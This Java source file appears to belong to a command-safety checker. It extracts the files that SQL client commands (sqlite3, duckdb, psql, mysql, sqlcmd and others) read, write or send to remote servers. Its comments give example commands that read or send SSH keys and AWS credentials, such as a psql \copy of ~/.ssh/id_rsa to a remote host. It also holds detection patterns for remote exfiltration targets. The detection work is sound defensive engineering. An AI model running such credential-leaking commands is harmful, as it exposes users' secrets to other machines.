package dev.shellwarden.engine.fact;

import dev.shellwarden.grammar.Regex;
import java.util.ArrayList;
import java.util.List;

/**
 * The files named inside the SQL an embedded database's command line runs ({@code sqlite3},
 * {@code duckdb}): the statements come as arguments ({@code duckdb -c "…"}, {@code sqlite3 DB 'SQL'}),
 * and the files they touch are quoted literals inside one argument, which the operand readings never
 * see. Writes: the dot commands {@code .output F}, {@code .once F}, {@code .save F}, {@code .backup F},
 * {@code .clone F}; {@code COPY … TO 'F'} and {@code EXPORT DATABASE 'DIR'} (DuckDB);
 * {@code writefile('F', …)} (sqlite3); {@code ATTACH [DATABASE] 'F'}, which creates the file. Reads:
 * every quoted literal that looks like a path, since DuckDB reads any file a table function or a
 * quoted table names ({@code read_text('~/.aws/credentials')}, {@code select * from '/x.csv'}) and
 * sqlite3's {@code readfile('F')} does the same.
 * INVARIANT: only adds paths (reads for the credential rules, writes for the write rules); a
 * literal that is no path, or a path inside the project, changes no verdict.
 */
final class SqlFiles {

    private SqlFiles() {
    }

    /** A dot command that writes the file it names. */
    private static final java.util.regex.Pattern DOT_WRITE = java.util.regex.Pattern.compile(
            "^\\.(output|once|save|backup|clone)\\s+(?:-\\S+\\s+)*(\\S+)");

    /** A statement that writes the quoted file it names (COPY … TO, EXPORT DATABASE, ATTACH, writefile). */
    private static final java.util.regex.Pattern STATEMENT_WRITE = java.util.regex.Pattern.compile(
            "(?is)\\b(?:to|export\\s+database|attach(?:\\s+database)?(?:\\s+if\\s+not\\s+exists)?|writefile\\s*\\()\\s*(['\"])([^'\"]+)\\1");

    /** A quoted literal inside the SQL. */
    private static final java.util.regex.Pattern LITERAL = java.util.regex.Pattern.compile("(['\"])([^'\"]+)\\1");

    /** The files the SQL in {@code c}'s arguments writes. */
    static List<String> writes(Cmd c) {
        List<String> out = new ArrayList<>();
        for (String a : c.getArgs()) {
            String sql = PathFacts.unquote(a);
            java.util.regex.Matcher dot = DOT_WRITE.matcher(sql);
            if (dot.find()) {
                out.add(dot.group(2));
            }
            java.util.regex.Matcher m = STATEMENT_WRITE.matcher(sql);
            while (m.find()) {
                // EXPORT DATABASE writes a folder of files
                out.add(Regex.find(m.group(), "(?i)^export") ? PathFacts.asFolder(m.group(2)) : m.group(2));
            }
        }
        return out;
    }

    /** A write target on another machine: an object store or a web address DuckDB's httpfs writes to. */
    private static final String REMOTE_TARGET = "(?i)(s3a?|s3n|gs|gcs|r2|az|azure|abfss?|hf|https?|ftp)://.*";

    /** ClickHouse's table functions that write to another machine when inserted into. */
    private static final java.util.regex.Pattern REMOTE_INSERT = java.util.regex.Pattern.compile(
            "(?is)\\binsert\\s+into\\s+(?:table\\s+)?function\\s+(?:url|s3|s3cluster|gcs|azureblobstorage|hdfs|remote|remotesecure|mysql|postgresql|mongodb)\\s*\\(");

    /**
     * True when the SQL in {@code c}'s arguments writes to another machine: DuckDB's
     * {@code COPY … TO 's3://…'} or {@code TO 'https://…'}, ClickHouse's
     * {@code INSERT INTO FUNCTION url(…)}/{@code s3(…)}/{@code remote(…)}. WHY: what the query read
     * goes with it; a credential file read in the same call is then sent (SW4006), as
     * {@code cat KEY | curl -T -} is.
     */
    static boolean sendsToNetwork(Cmd c) {
        if (writes(c).stream().anyMatch(w -> Regex.matches(w.trim(), REMOTE_TARGET))) {
            return true;
        }
        return c.getArgs().stream().anyMatch(a -> REMOTE_INSERT.matcher(PathFacts.unquote(a)).find());
    }

    /**
     * A client-side read of a local file the client hands to the server: psql's {@code \copy … FROM
     * FILE} and {@code \lo_import FILE}, mysql's and mariadb's {@code LOAD DATA LOCAL INFILE 'FILE'}:
     * group 1, 2 or 3 the file.
     */
    private static final java.util.regex.Pattern CLIENT_COPY_FROM = java.util.regex.Pattern.compile(
            "(?is)(?:\\\\copy\\s.*?\\bfrom|\\\\lo_import|\\bload\\s+(?:data|xml)\\s+(?:(?:low_priority|concurrent)\\s+)?local\\s+infile)"
            + "\\s+(?:'([^']+)'|\"([^\"]+)\"|([^\\s;'\"]+))");

    /**
     * The local files psql's {@code \copy … FROM F} reads and hands to the server
     * ({@code psql -h HOST -c "\copy t FROM '~/.ssh/id_rsa'"}); {@code stdin}, {@code pstdin} and
     * {@code PROGRAM} are no file. A server-side {@code COPY … FROM 'F'} reads the server's own file.
     */
    static List<String> clientCopyReads(Cmd c) {
        List<String> out = new ArrayList<>(scriptReads(c));
        for (String a : c.getArgs()) {
            java.util.regex.Matcher m = CLIENT_COPY_FROM.matcher(PathFacts.unquote(a));
            while (m.find()) {
                String f = m.group(1) != null ? m.group(1) : m.group(2) != null ? m.group(2) : m.group(3);
                if (!Regex.matches(f, "(?i)stdin|pstdin|program")) {
                    out.add(f);
                }
            }
        }
        return out;
    }

    /**
     * A client command running a file of statements: mysql's and mariadb's {@code source F},
     * {@code \. F}; psql's {@code \i F}, {@code \ir F}, {@code \include F}; group 1 the file.
     */
    private static final java.util.regex.Pattern CLIENT_SOURCE = java.util.regex.Pattern.compile(
            "(?i)(?:^|[;\\n])\\s*(?:source|\\\\include_relative|\\\\include|\\\\ir|\\\\i|\\\\\\.)\\s+['\"]?([^\\s;'\"]+)");

    /**
     * The script files a SQL client reads and sends to its server as statements: psql's {@code -f F},
     * {@code --file=F} ({@code -} is standard input), mysql's and mariadb's {@code source F} or
     * {@code \. F} inside {@code -e}/{@code --execute}, psql's {@code \i F} inside {@code -c}. WHY: the server gets every line of the file
     * (its error quotes them back), as with {@code \copy … FROM F}; a key named as the script
     * ({@code psql -h db.example.com -f ~/.ssh/id_rsa}) goes to that server.
     */
    /** Other SQL clients' options naming a file of statements they send to their server. */
    private static final java.util.Map<String, String> OTHER_SCRIPT_OPTIONS = java.util.Map.of(
            "sqlcmd", "-i|--input-file", "cqlsh", "-f|--file", "clickhouse-client", "--queries-file|--queries_file");

    /** The clients whose script files {@link #clientCopyReads} reads. */
    static final String CLIENTS = "psql mysql mariadb sqlcmd cqlsh clickhouse-client sqlplus";

    private static List<String> scriptReads(Cmd c) {
        List<String> out = new ArrayList<>();
        List<String> args = c.getArgs();
        boolean psql = c.getName().equals("psql");
        for (int i = 0; i < args.size(); i++) {
            String a = args.get(i);
            String f = null;
            if (psql && (a.equals("-f") || a.equals("--file")) && i + 1 < args.size()) {
                f = args.get(i + 1);
            } else if (psql && a.startsWith("--file=")) {
                f = a.substring(7);
            } else if (psql && a.startsWith("-f") && a.length() > 2) {
                f = a.substring(2);
            } else if (OTHER_SCRIPT_OPTIONS.containsKey(c.getName())
                    && (Regex.matches(a, OTHER_SCRIPT_OPTIONS.get(c.getName())) && i + 1 < args.size())) {
                // sqlcmd -i F, cqlsh -f F / --file F, clickhouse-client --queries-file F
                f = args.get(i + 1);
            } else if (OTHER_SCRIPT_OPTIONS.containsKey(c.getName()) && a.startsWith("--") && a.contains("=")
                    && Regex.matches(a.substring(0, a.indexOf('=')), OTHER_SCRIPT_OPTIONS.get(c.getName()))) {
                f = a.substring(a.indexOf('=') + 1);
            } else if (c.getName().equals("sqlplus") && a.startsWith("@") && a.length() > 1) {
                // sqlplus runs @F as a script on the server it connects to
                f = a.substring(1);
            } else if ((a.equals("-e") || a.equals("--execute") || a.equals("-c") || a.equals("--command")) && i + 1 < args.size()
                    || a.startsWith("--execute=") || a.startsWith("--command=")) {
                String sql = PathFacts.unquote(a.startsWith("--") && a.contains("=") ? a.substring(a.indexOf('=') + 1) : args.get(i + 1));
                java.util.regex.Matcher m = CLIENT_SOURCE.matcher(sql);
                while (m.find()) {
                    out.add(m.group(1));
                }
            }
            if (f != null && !PathFacts.unquote(f).equals("-")) {
                out.add(PathFacts.unquote(f));
            }
        }
        return out;
    }

    /** The index of the first argument that is no option nor an option's value (cqlsh's host), or -1. */
    private static int firstOperand(List<String> args) {
        for (int i = 0; i < args.size(); i++) {
            String a = args.get(i);
            if (Regex.matches(a, "-[ufkep]|--(?:username|password|keyspace|file|execute|cqlversion|encoding)")) {
                i++;
            } else if (!a.startsWith("-")) {
                return i;
            }
        }
        return -1;
    }

    /** The host of a {@code postgres://} or {@code postgresql://} connection URL: group 1. */
    private static final java.util.regex.Pattern POSTGRES_URL_HOST =
            java.util.regex.Pattern.compile("(?i)postgres(?:ql)?://(?:[^@/\\s]*@)?([^:/?\\s]+)");
    /** The host of a libpq connection string ({@code "host=db.example.com dbname=x"}): group 1. */
    private static final java.util.regex.Pattern CONNINFO_HOST = java.util.regex.Pattern.compile("(?i)(?:^|\\s)host=([^\\s]+)");

    /**
     * True when psql's {@code \copy … FROM FILE} hands a local file to a server named on another
     * machine ({@code -h HOST}, {@code --host=HOST}, {@code host=HOST} or a {@code postgres://HOST} URL
     * that is not this machine): the file's content goes over the network.
     */
    static boolean clientCopySends(Cmd c) {
        if (clientCopyReads(c).isEmpty()) {
            return false;
        }
        List<String> hosts = new ArrayList<>();
        List<String> args = c.getArgs();
        for (int i = 0; i < args.size(); i++) {
            String a = PathFacts.unquote(args.get(i));
            if ((a.equals("-h") || a.equals("--host")) && i + 1 < args.size()) {
                hosts.add(PathFacts.unquote(args.get(i + 1)));
            } else if (a.startsWith("--host=")) {
                hosts.add(a.substring(7));
            } else if (a.startsWith("-h") && a.length() > 2) {
                hosts.add(a.substring(2));
            } else if (c.getName().equals("sqlcmd") && a.equals("-S") && i + 1 < args.size()) {
                hosts.add(PathFacts.unquote(args.get(i + 1)).replaceFirst("^tcp:", "").replaceFirst("[,\\\\].*$", ""));
            } else if (c.getName().equals("cqlsh") && !a.startsWith("-") && i == firstOperand(args)) {
                hosts.add(a);
            } else if (c.getName().equals("sqlplus") && !a.startsWith("-") && !a.startsWith("@") && a.contains("@")) {
                // user/password@host[:port]/service, or @//host/service
                hosts.add(a.substring(a.lastIndexOf('@') + 1).replaceFirst("^//", "").replaceFirst("[:/].*$", ""));
            }
            java.util.regex.Matcher url = POSTGRES_URL_HOST.matcher(a);
            if (url.find()) {
                hosts.add(url.group(1));
            }
            java.util.regex.Matcher kv = CONNINFO_HOST.matcher(a);
            if (kv.find()) {
                hosts.add(kv.group(1));
            }
        }
        return hosts.stream().anyMatch(h -> !Regex.matches(h, "(?i)" + Cmd.LOOPBACK_HOST + "|::1|/.*"));
    }

    /** The quoted literals in {@code c}'s arguments that look like paths (a slash, or a home or dot start). */
    static List<String> reads(Cmd c) {
        List<String> out = new ArrayList<>();
        for (String a : c.getArgs()) {
            java.util.regex.Matcher m = LITERAL.matcher(PathFacts.unquote(a));
            while (m.find()) {
                String p = m.group(2).trim();
                if (Regex.matches(p, "[~/.$].*|[^\\s]*/[^\\s]*")) {
                    out.add(p);
                }
            }
        }
        return out;
    }
}
